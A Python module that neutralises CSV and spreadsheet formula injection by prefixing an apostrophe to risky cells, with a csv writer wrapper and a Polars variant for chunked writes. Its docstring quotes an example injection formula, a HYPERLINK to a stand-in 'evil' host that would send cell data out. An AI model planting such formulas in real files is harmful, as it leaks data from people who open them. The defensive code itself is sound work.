"""Cells written to a file that people open in a spreadsheet (CSV, xlsx): never a formula.

A cell that starts with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and Sheets
as a formula, so a debtor named `=HYPERLINK("http://evil/?"&A1)` or a creditor's cell `@SUM(...)` would
run when a clerk opens the file (CSV injection, OWASP). Every writer of such a file passes its cells
through `safe_cell` (a CSV file is written with `csv_writer`, which does it for every row): such text
gets a leading apostrophe, which the spreadsheet shows as
text. A plain number written as text (-12.50, +8613800138000, 1e3) is kept as it is, so a spreadsheet
still reads it as a number; numbers, dates and empty cells pass unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet must see it: text that would start a formula is prefixed with '."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """csv.writer whose rows go through `safe_row`."""

    def __init__(self, fh: TextIO) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(fh: TextIO) -> SafeCsvWriter:
    """The writer every CSV file a person may open is written with (never csv.writer directly)."""
    return SafeCsvWriter(fh)


def safe_text(name: str) -> Any:
    """`safe_cell` as a Polars expression on a text column, for files written a chunk at a time: text
    that would start a formula gets its leading apostrophe, a plain number is kept."""
    import polars as pl

    column = pl.col(name)
    starts = r"^[=+\-@\t\r]"  # FORMULA_STARTS, as a character class
    formula = column.str.contains(starts) & ~column.str.contains("^(?:" + PLAIN_NUMBER.pattern + ")$")
    return pl.when(formula).then(pl.lit("'") + column).otherwise(column).alias(name)


def csv_rows(frame: Any, fh: Any) -> None:
    """Appends a Polars frame's rows (no header) to a CSV file opened in binary mode, every text column
    through `safe_text`: how a file of a million rows is written a chunk at a time."""
    import polars as pl

    text = [name for name, dtype in frame.schema.items() if dtype == pl.Utf8]
    frame.with_columns(safe_text(name) for name in text).write_csv(
        fh, include_header=False, line_terminator="\r\n"
    )
